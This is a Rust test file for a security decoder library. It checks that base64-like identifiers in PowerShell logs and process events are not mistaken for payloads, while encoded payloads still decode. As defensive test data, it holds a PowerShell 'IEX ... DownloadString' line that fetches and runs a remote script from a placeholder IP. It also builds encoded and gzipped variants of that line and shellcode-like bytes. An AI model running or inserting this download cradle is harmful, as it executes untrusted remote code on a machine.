//! Real-world text that is not encoded: PowerShell script blocks, event text and the
//! command lines of the bundled process events. Long identifiers and property names are
//! runs of the base64 alphabet, and any 4n-long run decodes to some bytes; those bytes are
//! not a payload. Real payloads among the same text must still decode.
// A failed expectation stops a test or benchmark: panicking here is the point.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use common::*;
use huntkit_core::{read, ReadOptions};
use huntkit_decode::{decode, decode_table, DecodeOptions, Record};

const SCRIPT_BLOCKS: &str = include_str!("fixtures/noise/script_blocks.txt");

fn data(name: &str) -> String {
    format!("{}/../../examples/data/{name}", env!("CARGO_MANIFEST_DIR"))
}

/// Every line of the script blocks and every text cell of the bundled process events.
fn corpus() -> Vec<String> {
    let mut lines: Vec<String> = SCRIPT_BLOCKS.lines().map(str::to_owned).collect();
    for file in [
        "process_tree.csv",
        "win_proc_test.csv",
        "processes_on_host.csv",
        "linux_proc_test.csv",
        "host_logons.csv",
    ] {
        let bytes = std::fs::read(data(file)).unwrap();
        let table = read(&bytes, &ReadOptions::default()).unwrap();
        for name in table.column_names() {
            let column = table.str_column(&name).unwrap();
            for row in 0..table.num_rows() {
                if let Some(cell) = column.get(row) {
                    lines.push(cell.to_owned());
                }
            }
        }
    }
    lines.sort();
    lines.dedup();
    lines
}

fn binary_without_type(r: &Record) -> bool {
    r.encoding_type == "binary" && r.file_type.is_none()
}

#[test]
fn identifiers_and_property_names_are_not_payloads() {
    let options = DecodeOptions::default();
    let (mut records, mut garbage) = (0usize, Vec::new());
    for line in corpus() {
        let out = decode(&line, &options).unwrap();
        records += out.records.len();
        for r in out.records.iter().filter(|r| binary_without_type(r)) {
            garbage.push(r.original_string.to_string());
        }
    }
    eprintln!(
        "noise corpus: {records} records, {} binary without a file type",
        garbage.len()
    );
    // The one binary record left is a real fragment: the start of a PE header (`MZ`),
    // too short for its type to be told.
    assert_eq!(
        garbage,
        ["TVqQAAMAAAAAAAAAAAAAAAAAAAAAAAAAAAA"],
        "decoded as binary"
    );
}

#[test]
fn payloads_among_the_noise_still_decode() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    // Random-looking binary (shellcode-like) with no type: kept, it does not read as words.
    let shellcode: Vec<u8> = (0u32..96)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let url_token = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(
        b"{\"sub\":\"svc_backup\",\"aud\":\"https://login.example.org\",\"exp\":1767225600}",
    );
    let cases = [
        (format!("powershell -enc {}", b64(&utf16)), "DownloadString"),
        (
            format!(
                "[Convert]::FromBase64String('{}')",
                b64(&gzip(script.as_bytes()))
            ),
            "DownloadString",
        ),
        (
            format!("curl -H 'Authorization: Bearer {url_token}'"),
            "svc_backup",
        ),
    ];
    for (line, needle) in cases {
        let noisy = format!("{SCRIPT_BLOCKS}\n{line}");
        let out = decode(&noisy, &DecodeOptions::default()).unwrap();
        assert!(out.text.contains(needle), "{line}");
    }
    let out = decode(
        &format!("$sc = '{}'", b64(&shellcode)),
        &DecodeOptions::default(),
    )
    .unwrap();
    assert_eq!(out.records.len(), 1);
    assert!(binary_without_type(&out.records[0]));
}

#[test]
fn table_mode_on_the_bundled_events_finds_only_payloads() {
    let bytes = std::fs::read(data("processes_on_host.csv")).unwrap();
    let table = read(&bytes, &ReadOptions::default()).unwrap();
    let out = decode_table(&table, "CommandLine", &DecodeOptions::default()).unwrap();
    let types = out.str_column("encoding_type").unwrap();
    let kinds = out.str_column("file_type").unwrap();
    let originals = out.str_column("original_string").unwrap();
    let garbage: Vec<&str> = (0..out.num_rows())
        .filter(|&r| types.get(r) == Some("binary") && kinds.get(r).is_none())
        .filter_map(|r| originals.get(r))
        .collect();
    assert_eq!(garbage, ["TVqQAAMAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]);
    // The PowerShell -EncodedCommand payload in the same column is decoded.
    assert!((0..out.num_rows()).any(|r| types.get(r) == Some("utf-16")));
}

use base64::Engine;
